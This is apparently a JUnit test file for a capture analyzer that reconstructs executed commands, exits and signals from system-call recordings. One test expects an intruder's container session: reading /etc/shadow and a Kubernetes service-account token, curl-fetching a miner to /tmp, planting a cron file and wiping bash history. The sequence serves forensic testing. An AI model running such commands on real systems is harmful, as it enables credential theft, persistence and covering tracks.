package io.scapula.analyzers;

import static org.assertj.core.api.Assertions.assertThat;

import io.scapula.Capture;
import io.scapula.analyzers.GroundTruth.ProcessEnd;
import io.scapula.captures.Captures;
import io.scapula.table.Table;
import io.scapula.testing.Rows;
import java.io.IOException;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** {@code commands} against what whoever started them got back. */
class CommandsGroundTruthTest {
    private static Table commands(String capture) throws IOException {
        try (Capture opened = Capture.open(Captures.find(capture))) {
            return opened.analyze("commands");
        }
    }

    /** As {@code commands} should tell it: the only signal that was used is SIGTERM. */
    private static String told(ProcessEnd end) {
        return end.code() >= 0
                ? end.pid() + " exited " + end.code() + " -"
                : end.pid() + " exited " + (128 - end.code()) + " SIGTERM";
    }

    @Test
    void everyShortLivedProcessIsToldWithWhatItReturned() throws IOException {
        List<ProcessEnd> truth = GroundTruth.shortLivedProcesses();
        Set<String> pids = truth.stream().map(end -> end.pid() + " ").collect(Collectors.toSet());

        List<String> rows = Rows.of(commands("short-lived.scap.gz"), "proc.pid", "ended", "exit_code", "signal");

        assertThat(truth).hasSize(192).extracting(ProcessEnd::code).contains(-15, 0, 1, 3, 126, 255);
        assertThat(rows.stream().filter(row -> pids.contains(row.substring(0, row.indexOf(' ') + 1))))
                .containsExactlyElementsOf(
                        truth.stream().map(CommandsGroundTruthTest::told).toList());
    }

    @Test
    void whatTheIntruderTypedRanInTheContainer() throws IOException {
        List<String> rows = Rows.of(commands("attack.scap.gz"), "container.name", "exit_code", "proc.cmdline");

        assertThat(rows)
                .containsSubsequence(
                        "shop-web 0 id",
                        "shop-web 0 whoami",
                        "shop-web 0 hostname",
                        "shop-web 0 cat /etc/shadow",
                        "shop-web 0 cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                        "shop-web 0 curl -s -o /tmp/.x http://127.0.0.1:8099/xmr",
                        "shop-web 0 chmod +x /tmp/.x",
                        "shop-web 0 ls -la /tmp",
                        "shop-web 0 touch /etc/cron.d/evil",
                        "shop-web 0 rm -f /tmp/.x",
                        "shop-web 0 rm -f /root/.bash_history");
    }

    @Test
    void whatAliceTypedRanAsAlice() throws IOException {
        List<String> rows =
                Rows.of(commands("ssh-session.scap.gz"), "user.name", "user.loginname", "exit_code", "proc.cmdline");

        assertThat(rows)
                .containsSubsequence(
                        "alice alice 0 whoami",
                        "alice alice 0 cat notes.txt",
                        "alice alice 0 tail -n 2 /etc/passwd",
                        "alice alice 1 cat /etc/shadow")
                .contains("root alice 0 cat /etc/shadow")
                .anyMatch(row -> row.endsWith("SIGINT") || row.startsWith("alice alice 130 sleep 60"));
    }

    /** The two recorders of a pair saw the same run; the one that starts earlier sees more of what went before. */
    @ParameterizedTest
    @ValueSource(strings = {"crashloop", "net"})
    void bothRecordersOfAPairTellTheSameCommands(String pair) throws IOException {
        List<String> paired = told(commands(pair + ".scap.gz"));
        List<String> exitOnly = told(commands(pair + "-exit-only.scap.gz"));

        assertThat(exitOnly).endsWith(paired.toArray(String[]::new));
    }

    @ParameterizedTest
    @ValueSource(strings = {"crashloop", "net"})
    void bothRecordersOfAPairTellTheSamePipelinesAndScripts(String pair) throws IOException {
        String[] columns = {"proc.pid", "script", "parents", "stdin", "stdout", "stderr"};
        List<String> paired = Rows.of(commands(pair + ".scap.gz"), columns);
        List<String> exitOnly = Rows.of(commands(pair + "-exit-only.scap.gz"), columns);

        assertThat(exitOnly).endsWith(paired.toArray(String[]::new));
    }

    @ParameterizedTest
    @ValueSource(strings = {"attack", "crashloop", "net", "short-lived", "ssh-session"})
    void whereEveryExecveWasRecordedNoneIsInferred(String recording) throws IOException {
        assertThat(Rows.of(commands(recording + ".scap.gz"), "inferred"))
                .isNotEmpty()
                .containsOnly("false");
    }

    private static List<String> told(Table commands) {
        return Rows.of(commands, "proc.pid", "proc.ppid", "ended", "exit_code", "signal", "user.name", "proc.cmdline");
    }
}
